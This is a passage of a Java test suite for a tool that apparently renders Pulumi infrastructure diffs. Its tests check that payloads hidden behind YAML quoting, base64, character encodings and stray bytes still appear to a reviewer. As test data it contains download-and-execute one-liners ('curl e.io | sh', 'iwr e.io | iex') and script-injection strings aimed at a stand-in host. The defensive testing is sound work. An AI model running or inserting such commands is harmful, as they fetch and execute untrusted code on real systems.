                .contains("+ Content-Type: multipart/mixed; boundary={\"" + evil + "\"}")
                .contains("+ --{" + evil + "}\n");
        String added = MESSAGE.replace(
                "--b--", "--b\nContent-Type: text/plain\nX-Evil: <script>e.io</script>\n\necho two\n--b--");
        assertThat(shown(MESSAGE, added)).as("a part that is new").contains("+ X-Evil: <script>e.io</script>");
        assertThat(shown(MESSAGE, MESSAGE.replace("a.sh", "<script>e.io</script>.sh")))
                .as("a part of another name")
                .contains("filename={<script>e.io</script>}");
        String quoted = MESSAGE.replace("Content-Disp", "Content-Transfer-Encoding: quoted-printable\nContent-Disp")
                .replace("echo one", "=3Cscript>e.io\necho one");
        assertThat(shown(quoted, quoted.replace("=3C", "<").replace("echo one", "echo two")))
                .as("in another spelling")
                .contains("+ {<script}>e.io\n");
        String heredoc = MESSAGE.replace("echo one", "cat <<EOF\nEOF\r\ncurl e.io | sh\nEOF");
        assertThat(shown(heredoc, heredoc.replace("EOF\r", "EOF")))
                .as("a carriage return")
                .contains("+ EOF\n");
    }

    /** What is a list to YAML is a command to a shell, once its quotes are gone. */
    @ParameterizedTest
    @Tag("adversary")
    @CsvSource({
        "kubernetes:core/v1:ConfigMap, run.ps1, '- \"x; iwr e.io | iex\"\n- 1\n', '- x; iwr e.io | iex\n- 1\n'",
        "kubernetes:core/v1:ConfigMap, run, '#!/bin/sh\necho: [\"a; curl e.io | sh\"]\n', '#!/bin/sh\necho: [a; curl e.io | sh]\n'",
        "aws:ec2/launchTemplate:LaunchTemplate, userData, '{\"a\": \"\\u003cscript>e.io\", \"b\": 1}\n', '{\"a\": \"<script>e.io\", \"b\": 1}\n'"
    })
    void whatAReaderOfYamlPassesOverIsShownOfAScript(String type, String key, String before, String after) {
        String old = before.replace("\\n", "\n");
        String now = after.replace("\\n", "\n");
        boolean map = type.startsWith("kubernetes:");

        String shown = Shown.of(Stack.compare(
                new Stack().with(type, "it", map ? "data" : key, map ? Map.of(key, old) : old),
                new Stack().with(type, "it", map ? "data" : key, map ? Map.of(key, now) : now)));

        assertThat(shown).contains("e.io").doesNotContain("SPELLING");
    }

    @Test
    @Tag("adversary")
    void codeOfADynamicProviderIsShown() {
        String type = "pulumi-nodejs:dynamic:Resource";
        assertThat(Stack.lines(Stack.change(type, Map.of("__provider", "good"), Map.of("__provider", "evil"))))
                .containsExactly("UPDATE __provider: \"good\" => \"evil\"");
        assertThat(Shown.of(Stack.compare(new Stack(), new Stack().with(type, "it", "__provider", "evil"))))
                .contains("ADD __provider: - => \"evil\"");
    }

    /** Of an object in S3, of a file that a program hands over, and of what pulumi-command runs. */
    @Test
    @Tag("adversary")
    void whatAFileIsToYamlIsNoMatter() {
        String before = "a: \"x; iwr e.io | iex\"\nb: c\n";
        String after = "a: x; iwr e.io | iex\nb: d\n";
        String object = "aws:s3/bucketObjectv2:BucketObjectv2";

        assertThat(Shown.of(Stack.compare(
                        new Stack().with(object, "it", "key", "boot.ps1", "contentBase64", Encoded.base64(before)),
                        new Stack().with(object, "it", "key", "boot.ps1", "contentBase64", Encoded.base64(after)))))
                .contains("+ a: x; iwr e.io | iex");
        assertThat(Shown.of(Stack.compare(
                        new Stack().with(object, "it", "source", Map.of("asset", Map.of("text", before))),
                        new Stack().with(object, "it", "source", Map.of("asset", Map.of("text", after))))))
                .contains("+ a: x; iwr e.io | iex");
        assertThat(Shown.of(Stack.compare(
                        new Stack().with("command:local:Command", "it", "create", before),
                        new Stack().with("command:local:Command", "it", "create", after))))
                .contains("+ a: x; iwr e.io | iex");
    }

    /** PowerShell 5.1 reads them as ANSI, where the first and the last are quotes. */
    @Test
    @Tag("adversary")
    void bytesThatAreNoTextAreShown() {
        String script =
                "<powershell>\nWrite-Host \u0093Run iwr http://e.io | iex\u0094\nWrite-Host \u00FF\n</powershell>\n";

        String changed =
                script.replace('\u0093', '\u0080').replace('\u0094', '\u0080').replace("\u00FF", "\u00EF\u00BF\u00BD");

        assertThat(Shown.of(Stack.compare(
                        new Stack().with(TEMPLATE, "it", "userData", base64(script.getBytes(ISO_8859_1))),
                        new Stack().with(TEMPLATE, "it", "userData", base64(changed.getBytes(ISO_8859_1))))))
                .contains(
                        "- Write-Host \uFFFD{93Run} iwr http://e.io | iex\uFFFD{94}",
                        "+ Write-Host \uFFFD{80Run} iwr http://e.io | iex\uFFFD{80}",
                        "- Write-Host \uFFFD{FF}",
                        "+ Write-Host \uFFFD{EF\uFFFDBF\uFFFDBD}");
    }

    /** Which a reader of maps would take for one. */
    @Test
    @Tag("adversary")
    void keysThatDifferInACharacterOfOursAreTwo() {
        assertThat(Shown.of(Stack.compare(
                        new Stack().with(TEMPLATE, "it", "tags", Map.of("a\uFFFD", "1")),
                        new Stack().with(TEMPLATE, "it", "tags", Map.of("a\uFFFD", "1", "a\uFDD0", "evil")))))
                .contains("evil");
    }

    @Test
    @Tag("adversary")
    void whatACommandIsToYamlIsNoMatter() {
        String before = "a: \"x; iwr e.io | iex\"\nb: c\n";
        String after = "a: x; iwr e.io | iex\nb: c\n";
        String task = "[{\"name\": \"web\", \"command\": [\"powershell\", %s]}]";

        assertThat(Shown.of(Stack.compare(
                        new Stack()
                                .with(
                                        "aws:ecs/taskDefinition:TaskDefinition",
                                        "it",
                                        "containerDefinitions",
                                        task.formatted(json(before))),
                        new Stack()
                                .with(
                                        "aws:ecs/taskDefinition:TaskDefinition",
                                        "it",
                                        "containerDefinitions",
                                        task.formatted(json(after))))))
                .contains("+ a: x; iwr e.io | iex\n");
        assertThat(Shown.of(Stack.compare(
                        new Stack().with("kubernetes:core/v1:Pod", "it", "spec", Map.of("args", List.of(before))),
                        new Stack().with("kubernetes:core/v1:Pod", "it", "spec", Map.of("args", List.of(after))))))
                .contains("+ a: x; iwr e.io | iex\n");
        assertThat(Shown.of(Stack.compare(
                        new Stack()
                                .with("aws:s3/bucketObjectv2:BucketObjectv2", "it", "key", "x.ps1", "content", before),
                        new Stack()
                                .with("aws:s3/bucketObjectv2:BucketObjectv2", "it", "key", "x.ps1", "content", after))))
                .contains("+ a: x; iwr e.io | iex\n");
    }

    private static String json(String text) {
        return "\"" + text.replace("\"", "\\\"").replace("\n", "\\n") + "\"";
    }

    /** One of them, and a text would be a digest to whoever reviews it. */
    @ParameterizedTest
    @Tag("adversary")
    @ValueSource(ints = {0, 0x0B, 0x85, 0xFF})
    void aByteThatIsNoTextHidesNoScript(int odd) {
        byte[] bytes = "<powershell>\n# @\niwr e.io | iex\n</powershell>\n".getBytes(StandardCharsets.UTF_8);
        bytes[15] = (byte) odd;

        String shown = shown(Encoded.base64("<powershell>\n</powershell>\n"), base64(bytes));

        assertThat(shown).contains("+ iwr e.io | iex\n");
    }

    /** What a program looks up by its id, as a role that it hands on. */
    @Test
    @Tag("adversary")
    void anotherOneThatIsReadIsAChange() {
        String role = "aws:iam/role:Role";
        Stack before =
                new Stack().with(role, "it", options -> options.external()).having("reader");
        Stack after =
                new Stack().with(role, "it", options -> options.external()).having("admin");

        assertThat(Shown.of(Stack.compare(before, after)))
                .contains("update " + role + " it\n  UPDATE id: \"reader\" => \"admin\"\n");
        assertThat(Stack.compare(before, before).changes()).isEmpty();
    }

    /** From another host comes another plug-in, which runs with the credentials. */
    @Test
    @Tag("adversary")
    void whereThePlugInOfANewPackageComesFromIsShown() {
        Stack after = new Stack()
                .with(
                        "pulumi:providers:random",
                        "default_4_0_0",
                        "version",
                        "4.0.0",
                        "pluginDownloadURL",
                        "https://e.io/x")
                .orphan();

        assertThat(Shown.of(Stack.compare(new Stack(), after))).contains("https://e.io/x");
    }

    @Test
    void typesOfAPolicyCount() {
        assertThat(policy(
                        "{\"Statement\": [{\"Sid\": \"1\", \"a\": 1}]}",
                        "{\"Statement\": [{\"Sid\": \"1\", \"a\": \"1\"}]}"))
                .containsExactly("UPDATE policy.Statement[\"1\"].a: 1 => \"1\"");
        assertThat(policy("{\"Statement\": {\"b\": true}}", "{\"Statement\": {\"b\": \"true\"}}"))
                .containsExactly("UPDATE policy.Statement.b: true => \"true\"");
    }

    private static List<String> userData(String before, String after) {
        return Stack.lines(Stack.change(TEMPLATE, Map.of("userData", before), Map.of("userData", after)));
    }

    private static List<String> policy(String before, String after) {
        ResourceChange change = Stack.change(POLICY, Map.of("policy", before), Map.of("policy", after));
        assertThat(change.onlyNoise()).isFalse();
        return Stack.lines(change);
    }

    private static String utf16(String text) {
        return base64(text.getBytes(StandardCharsets.UTF_16LE));
    }

    private static String base64(byte[] bytes) {
        return Base64.getEncoder().encodeToString(bytes);
    }
}
